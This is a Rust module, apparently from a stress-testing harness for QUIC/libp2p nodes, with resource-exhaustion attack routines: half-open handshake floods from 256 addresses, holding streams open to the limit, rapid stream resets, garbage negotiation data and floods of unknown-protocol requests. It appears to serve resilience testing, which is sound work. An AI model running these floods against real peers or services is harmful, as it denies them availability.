//! Attacks below all protocols, and on their negotiation.

use std::time::Duration;

use quinn::Connection;
use tokio::net::UdpSocket;

use super::{Done, Plan, address};
use crate::raw::{
    Dialer, Result,
    connection::{line, reset},
    noise,
};

/// Addresses that the beginnings of handshakes come from.
const ADDRESSES: usize = 256;
/// A second, of each worker.
const HANDSHAKES: u64 = 500;

/// Begins handshakes and never goes on, from many addresses, as somebody does who forges them.
pub async fn half_handshakes(plan: &Plan, done: &Done) -> Result<()> {
    let dialer = Dialer::new(std::net::Ipv4Addr::LOCALHOST.into())?;
    let many = Plan { from_many: true, ..plan.clone() };
    let mut sockets = vec![];
    for number in 0..ADDRESSES {
        sockets.push(UdpSocket::bind((address(&many, number), 0)).await?);
    }
    // One that was given up by the other side can begin again.
    let packets = dialer.first_packets(100).await?;
    let mut pace = tokio::time::interval(Duration::from_micros(1_000_000 / HANDSHAKES));
    for (packet, socket) in packets.iter().cycle().zip(sockets.iter().cycle()) {
        pace.tick().await;
        socket.send_to(packet, plan.to).await?;
        Done::add(&done.dialled, 1);
        Done::add(&done.bytes_out, packet.len() as u64);
    }
    Ok(())
}

/// Stays, and says nothing.
pub async fn nothing(connection: &Connection) -> Result<()> {
    Err(connection.closed().await.into())
}

/// Opens streams as far as it is allowed to, writes this on each, and leaves them open. One on which nothing is written is
/// ended, since nothing would tell of it.
pub async fn streams(connection: &Connection, done: &Done, begin: &[u8]) -> Result<()> {
    let mut held = vec![];
    loop {
        let (mut send, recv) = connection.open_bi().await?;
        if begin.is_empty() {
            send.finish()?;
        } else {
            send.write_all(begin).await?;
        }
        Done::add(&done.streams, 1);
        held.push((send, recv));
    }
}

/// Opens streams, and takes each back at once.
pub async fn resets(connection: &Connection, done: &Done) -> Result<()> {
    loop {
        let (mut send, mut recv) = connection.open_bi().await?;
        send.write_all(&line("/multistream/1.0.0")).await?;
        reset(&mut send, &mut recv);
        Done::add(&done.streams, 1);
    }
}

/// Sends garbage in negotiations.
pub async fn garbage(connection: &Connection, done: &Done) -> Result<()> {
    for seed in 0u64.. {
        let (mut send, mut recv) = connection.open_bi().await?;
        // An error: the other side has given the stream up.
        let _ = send.write_all(&noise(4096, seed)).await;
        let _ = send.finish();
        let _ = recv.read_to_end(4096).await;
        Done::add(&done.streams, 1);
    }
    Ok(())
}

/// Requests unknown protocols, one after the other, on as many streams as possible.
pub async fn negotiation(connection: &Connection, done: &Done) -> Result<()> {
    loop {
        let (mut send, mut recv) = connection.open_bi().await?;
        Done::add(&done.streams, 1);
        send.write_all(&line("/multistream/1.0.0")).await?;
        tokio::spawn(async move {
            for number in 0u64.. {
                let asked = send.write_all(&line(&format!("/none/{number}"))).await;
                let heard = recv.read(&mut [0; 4096]).await;
                if asked.is_err() || !matches!(heard, Ok(Some(_))) {
                    return;
                }
            }
        });
    }
}
